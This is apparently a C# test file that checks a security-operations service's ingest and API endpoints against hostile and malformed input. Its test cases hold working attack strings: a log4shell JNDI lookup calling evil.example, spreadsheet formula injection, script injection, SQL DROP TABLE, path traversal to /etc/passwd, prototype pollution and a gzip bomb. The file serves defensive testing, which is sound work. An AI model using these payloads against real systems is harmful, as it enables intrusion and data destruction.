using System.Diagnostics;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using SocCoordination.Service.Access;
using SocCoordination.Service.Tests.Support;

namespace SocCoordination.Service.Tests.Features.Ingest;

/// <summary>
/// Hostile and broken requests at the service's own doors, each with the status that it must get; a good neighbour in the
/// same batch is kept, nothing is executed, memory stays bounded, and the service answers afterwards as before. Hostile
/// lines, rules and playbooks beyond these stand in the tests of Events, Detection and Playbooks.
/// </summary>
public sealed class When_what_is_sent_is_hostile_or_broken(When_a_shipper_sends.Service fixture) : IClassFixture<When_a_shipper_sends.Service>
{
    private const string Good = "{\"create\":{}}\n{\"message\":\"hàng xóm tốt\"}\n";

    /// <summary>name, body, status of the request, statuses of the items (null: the whole request is refused).</summary>
    public static TheoryData<string, string, int, string?> Bodies() => new()
    {
        { "empty", "", 400, null },
        { "only line ends", "\n\n\r\n\n", 400, null },
        { "no action", "{\"message\":\"x\"}\n", 400, null },
        { "an action that does not exist", "{\"explode\":{}}\n{\"message\":\"x\"}\n", 400, null },
        { "an action that is no object", "[1,2,3]\n{\"message\":\"x\"}\n", 400, null },
        { "text instead of an action", "hello\n{\"message\":\"x\"}\n", 400, null },
        { "two actions in one line", "{\"create\":{},\"index\":{}}\n{\"message\":\"x\"}\n", 400, null },
        { "a NUL in the action", "{\"create\":\0{}}\n{\"message\":\"x\"}\n", 400, null },
        { "an action without its document", Good + "{\"create\":{}}\n", 200, "201,400" },
        { "a document that is text", Good + "{\"create\":{}}\n\"text\"\n", 200, "201,400" },
        { "a document that is a list", Good + "{\"create\":{}}\n[{\"message\":\"x\"}]\n", 200, "201,400" },
        { "a document that is a number", Good + "{\"create\":{}}\n12\n", 200, "201,400" },
        { "a document that breaks off", Good + "{\"create\":{}}\n{\"message\":\"x\n", 200, "201,400" },
        { "two documents in a line", Good + "{\"create\":{}}\n{\"a\":1}{\"b\":2}\n", 200, "201,400" },
        { "a comment in JSON", Good + "{\"create\":{}}\n{/* x */\"a\":1}\n", 200, "201,400" },
        { "a trailing comma", Good + "{\"create\":{}}\n{\"a\":1,}\n", 200, "201,400" },
        { "single quotes", Good + "{\"create\":{}}\n{'a':1}\n", 200, "201,400" },
        { "NaN", Good + "{\"create\":{}}\n{\"a\":NaN}\n", 200, "201,400" },
        { "deep JSON", Good + "{\"create\":{}}\n" + string.Concat(Enumerable.Repeat("{\"a\":", 5000)) + "1" + new string('}', 5000) + "\n", 200, "201,400" },
        { "deep lists", Good + "{\"create\":{}}\n{\"a\":" + new string('[', 100_000) + "\n", 200, "201,400" },
        { "a hundred thousand fields", Good + "{\"create\":{}}\n{" + string.Join(',', Enumerable.Range(0, 100_000).Select(i => $"\"f{i}\":1")) + "}\n", 200, "201,413" },
        { "a huge line", Good + "{\"create\":{}}\n{\"message\":\"" + new string('A', 3 << 20) + "\"}\n", 200, "201,413" },
        { "a huge action", "{\"create\":{\"_id\":\"" + new string('A', 1 << 20) + "\"}}\n{\"message\":\"x\"}\n", 400, null },
        { "an id of 2,000 letters", Good + "{\"create\":{\"_id\":\"" + new string('i', 2000) + "\"}}\n{\"message\":\"x\"}\n", 200, "201,400" },
        { "delete", Good + "{\"delete\":{\"_id\":\"1\"}}\n", 200, "201,400" },
        { "update", Good + "{\"update\":{\"_id\":\"1\"}}\n{\"doc\":{\"message\":\"x\"}}\n", 200, "201,400" },
        { "NUL escapes in a value", Good + "{\"create\":{}}\n{\"message\":\"a\\u0000b\"}\n", 200, "201,201" },
        { "lone surrogates", Good + "{\"create\":{}}\n{\"message\":\"a\\ud800b\"}\n", 200, "201,201" },
        { "a time of the year 9999", Good + "{\"create\":{}}\n{\"message\":\"x\",\"@timestamp\":\"9999-12-31T23:59:59Z\"}\n", 200, "201,201" },
        { "a time before all logs", Good + "{\"create\":{}}\n{\"message\":\"x\",\"@timestamp\":\"0001-01-01T00:00:00Z\"}\n", 200, "201,201" },
        { "a time that is none", Good + "{\"create\":{}}\n{\"message\":\"x\",\"@timestamp\":\"hôm qua\"}\n", 200, "201,201" },
        { "a time that is an object", Good + "{\"create\":{}}\n{\"message\":\"x\",\"@timestamp\":{\"a\":1}}\n", 200, "201,201" },
        { "a number beyond all numbers", Good + "{\"create\":{}}\n{\"message\":\"x\",\"a\":1e999999}\n", 200, "201,201" },
        { "HTML and script", Good + "{\"create\":{}}\n{\"message\":\"<script>alert(1)</script><img src=x onerror=alert(1)>\"}\n", 200, "201,201" },
        { "a formula for a spreadsheet", Good + "{\"create\":{}}\n{\"message\":\"=cmd|' /C calc'!A0\"}\n", 200, "201,201" },
        { "log4shell", Good + "{\"create\":{}}\n{\"message\":\"${jndi:ldap://evil.example/a}\"}\n", 200, "201,201" },
        { "SQL", Good + "{\"create\":{}}\n{\"message\":\"'; DROP TABLE journal; --\"}\n", 200, "201,201" },
        { "escape sequences for a terminal", Good + "{\"create\":{}}\n{\"message\":\"\\u001b[2J\\u001b]0;x\\u0007\"}\n", 200, "201,201" },
        { "text that turns round", Good + "{\"create\":{}}\n{\"message\":\"\\u202egpj.exe\"}\n", 200, "201,201" },
        { "a field named as an object's own parts", Good + "{\"create\":{}}\n{\"__proto__\":{\"admin\":true},\"constructor\":1,\"message\":\"x\"}\n", 200, "201,201" },
        { "a forged agency", Good + "{\"create\":{}}\n{\"message\":\"x\",\"organization\":{\"id\":\"2\"},\"organization.id\":\"2\",\"agency\":\"2\"}\n", 200, "201,201" },
        { "a forged original", Good + "{\"create\":{}}\n{\"message\":\"x\",\"event\":{\"original\":\"không phải\",\"ingested\":\"2001-01-01T00:00:00Z\"}}\n", 200, "201,201" },
        { "an index named as a path", "{\"create\":{\"_index\":\"../../etc/passwd\"}}\n{\"message\":\"x\"}\n", 200, "201" },
        { "duplicate names", Good + "{\"create\":{}}\n{\"message\":\"một\",\"message\":\"hai\"}\n", 200, null },
    };

    [Theory]
    [MemberData(nameof(Bodies))]
    public async Task Should_answer_clearly_and_keep_the_good_neighbour(string name, string body, int status, string? items)
    {
        var running = fixture.Running;
        var shipper = await running.WithKeyAsync(Role.Shipper);
        using var answer = await shipper.PostBulkAsync(body);
        Assert.True((int)answer.StatusCode == status, $"{name}: {(int)answer.StatusCode} {await answer.Content.ReadAsStringAsync()}");
        var json = await answer.Content.ReadFromJsonAsync<JsonElement>();
        if (status != 200)
            Assert.NotEqual("", json.GetProperty("error").GetProperty("reason").GetString());
        else if (items is not null)
            Assert.Equal(items, string.Join(',', json.GetProperty("items").EnumerateArray().Select(item => item.EnumerateObject().First().Value.GetProperty("status").GetInt32())));
        await StillWellAsync(running, shipper);
    }

    [Fact]
    public async Task Should_refuse_a_gzip_that_breaks_off_whole()
    {
        var running = fixture.Running;
        var shipper = await running.WithKeyAsync(Role.Shipper);
        var whole = Gzip(Shipper.Body(Enumerable.Range(0, 2000).Select(i => (object)new { message = $"nửa chừng {i} {Guid.NewGuid()}" })));
        using var answer = await SendAsync(shipper, whole[..(whole.Length / 2)], "gzip");
        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
        Assert.Empty(await (await running.WithKeyAsync(Role.Analyst)).EventsAsync("\"nửa chừng\""));
        await StillWellAsync(running, shipper);
    }

    [Theory]
    [InlineData("gzip", "this is no gzip", 400)]
    [InlineData("deflate", "nor is it deflate", 400)]
    [InlineData("br", "x", 415)]
    [InlineData("gzip, gzip", "x", 415)]
    public async Task Should_refuse_an_encoding_that_is_not_what_it_says(string encoding, string body, int status)
    {
        var running = fixture.Running;
        var shipper = await running.WithKeyAsync(Role.Shipper);
        using var answer = await SendAsync(shipper, Encoding.UTF8.GetBytes(body), encoding);
        Assert.Equal(status, (int)answer.StatusCode);
    }

    [Fact]
    public async Task Should_refuse_a_gzip_bomb_without_growing()
    {
        var running = fixture.Running;
        var shipper = await running.WithKeyAsync(Role.Shipper);
        using var packed = new MemoryStream();
        await using (var gzip = new GZipStream(packed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            var zeros = new byte[1 << 20];
            for (var i = 0; i < 512; i++)
                await gzip.WriteAsync(zeros);
        }

        var before = Process.GetCurrentProcess().WorkingSet64;
        using var answer = await SendAsync(shipper, packed.ToArray(), "gzip");
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, answer.StatusCode);
        Assert.True(Process.GetCurrentProcess().WorkingSet64 - before < 400L << 20, "Memory grew by more than 400 MiB.");
        await StillWellAsync(running, shipper);
    }

    [Fact]
    public async Task Should_refuse_a_body_beyond_the_limit_and_one_that_lies_about_its_length()
    {
        await using var running = await RunningService.StartAsync("--Ingest:MaxRequestBytes=65536", "--Ingest:MaxDecompressedBytes=131072");
        var shipper = await running.WithKeyAsync(Role.Shipper);
        using var announced = await shipper.PostBulkAsync(Shipper.Body([new { message = new string('A', 100_000) }]));
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, announced.StatusCode);
        using var chunked = new HttpRequestMessage(HttpMethod.Post, "/_bulk") { Content = new StreamContent(new MemoryStream(Encoding.UTF8.GetBytes(Shipper.Body([new { message = new string('A', 100_000) }])))) };
        chunked.Headers.TransferEncodingChunked = true;
        using var unannounced = await shipper.SendAsync(chunked);
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, unannounced.StatusCode);
        await StillWellAsync(running, shipper);
    }

    [Fact]
    public async Task Should_keep_lines_in_old_encodings_readable_where_they_are()
    {
        var running = fixture.Running;
        var shipper = await running.WithKeyAsync(Role.Shipper);
        byte[] line = [.. "{\"create\":{}}\n{\"message\":\"mot dong tcvn3 "u8, 0xB5, 0xE1, 0xFF, .. " het\"}\n"u8];
        using var answer = await SendAsync(shipper, line, null);
        answer.EnsureSuccessStatusCode();
        var stored = (await (await running.WithKeyAsync(Role.Analyst)).EventsAsync("tcvn3")).Single();
        Assert.Contains("mot dong tcvn3", stored.GetProperty("message").GetString(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/api/v1/alerts?limit=-1", 400)]
    [InlineData("/api/v1/alerts?limit=1000000", 400)]
    [InlineData("/api/v1/alerts?cursor=%00", 400)]
    [InlineData("/api/v1/alerts?from=ngay-mai", 400)]
    [InlineData("/api/v1/alerts?severity=b%E1%BB%B1", 400)]
    [InlineData("/api/v1/alerts/CB-99999999999999999999", 400)]
    [InlineData("/api/v1/alerts/%3Cscript%3E", 400)]
    [InlineData("/api/v1/events?query=%28%28%28", 400)]
    [InlineData("/api/v1/events?cursor=abc", 400)]
    [InlineData("/api/v1/events?format=exe", 400)]
    [InlineData("/api/v1/events?agency=khong-co", 404)]
    [InlineData("/api/v1/events/zz", 404)]
    [InlineData("/api/v1/cases/%2e%2e%2f%2e%2e", 404)]
    public async Task Should_refuse_a_bad_question_with_a_sentence_in_both_languages(string address, int status)
    {
        var team = await fixture.Running.WithKeyAsync(Role.TeamLead);
        var sentences = new List<string>();
        foreach (var language in new[] { "vi", "en" })
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, address);
            request.Headers.AcceptLanguage.ParseAdd(language);
            using var answer = await team.SendAsync(request);
            Assert.True((int)answer.StatusCode == status, $"{(int)answer.StatusCode} {await answer.Content.ReadAsStringAsync()}");
            Assert.Equal("application/problem+json", answer.Content.Headers.ContentType?.MediaType);
            sentences.Add((await answer.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("detail").GetString()!);
        }

        Assert.NotEqual(sentences[0], sentences[1]);
    }

    [Theory]
    [InlineData("{", 400)]
    [InlineData("[]", 400)]
    [InlineData("{\"title\":12}", 400)]
    [InlineData("{\"title\":\"\"}", 400)]
    [InlineData("{\"title\":\"x\",\"severity\":\"tệ\"}", 400)]
    [InlineData("{\"title\":\"x\",\"severity\":3}", 400)]
    [InlineData("{\"title\":\"x\",\"alerts\":[\"CB-999999\"]}", 404)]
    [InlineData("{\"title\":\"x\",\"alerts\":[{}]}", 400)]
    [InlineData("{\"title\":\"x\",\"playbook\":\"../../etc/passwd\"}", 400)]
    [InlineData("{\"title\":\"x\",\"incidentType\":\"<script>\"}", 400)]
    public async Task Should_refuse_a_bad_command_and_change_nothing(string body, int status)
    {
        var team = await fixture.Running.WithKeyAsync(Role.TeamLead);
        var before = await fixture.Running.WithDatabaseAsync(database => Task.FromResult(database.Journal.Count()));
        using var answer = await team.PostAsync("/api/v1/cases", new StringContent(body, Encoding.UTF8, "application/json"));
        Assert.True((int)answer.StatusCode == status, $"{(int)answer.StatusCode} {await answer.Content.ReadAsStringAsync()}");
        Assert.Equal(before, await fixture.Running.WithDatabaseAsync(database => Task.FromResult(database.Journal.Count())));
    }

    private static async Task StillWellAsync(RunningService running, HttpClient shipper)
    {
        await shipper.ShipAsync(new { message = "vẫn chạy" });
        using var ready = await running.Anonymous().GetAsync("/health/ready");
        Assert.Equal(HttpStatusCode.OK, ready.StatusCode);
    }

    private static byte[] Gzip(string text)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Fastest, leaveOpen: true))
            gzip.Write(Encoding.UTF8.GetBytes(text));
        return packed.ToArray();
    }

    private static Task<HttpResponseMessage> SendAsync(HttpClient client, byte[] body, string? encoding)
    {
        var content = new ByteArrayContent(body);
        content.Headers.ContentType = new MediaTypeHeaderValue("application/x-ndjson");
        if (encoding is not null)
            content.Headers.TryAddWithoutValidation("Content-Encoding", encoding);
        return client.PostAsync("/_bulk", content);
    }
}
